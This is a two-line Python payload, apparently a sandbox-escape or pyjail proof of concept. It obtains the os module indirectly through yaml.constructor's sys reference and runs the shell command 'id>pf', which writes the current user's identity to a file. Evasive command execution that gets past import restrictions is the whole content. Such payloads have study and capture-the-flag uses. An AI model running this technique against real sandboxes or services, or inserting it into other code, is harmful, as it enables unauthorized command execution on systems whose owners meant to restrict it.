import yaml.constructor as c
c.sys.modules["os"].system("id>pf")
